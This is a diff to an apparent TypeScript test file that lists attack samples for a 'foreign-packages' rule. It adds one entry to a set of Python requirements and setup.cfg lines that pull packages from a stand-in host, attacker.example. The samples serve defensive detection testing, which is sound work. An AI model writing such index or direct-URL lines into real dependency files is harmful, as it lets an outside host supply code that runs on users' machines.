@@ -46,6 +46,7 @@ const ATTACKS: readonly (readonly [rule: string, name: string, text: string])[] 
   ["text/foreign-packages", "setup.cfg", "requires = x @ git+http://attacker.example/x\n"],
   ["text/foreign-packages", "requirements.txt", "--extra-index-url http://attacker.example/s\nx"],
   ["text/foreign-packages", "requirements.txt", "-i https://attacker.example/simple\n"],
+  ["text/foreign-packages", "extra.txt", "--index-url=https://attacker.example/simple\n"],
   ["text/foreign-packages", "requirements.txt", "-ihttps://attacker.example/simple\n"],
   ["text/foreign-packages", "requirements-dev.txt", "git+http://attacker.example/x.git#egg=x\n"],
   ["text/foreign-packages", "requirements.txt", "x @ https://attacker.example/x-1.0.tar.gz\n"],
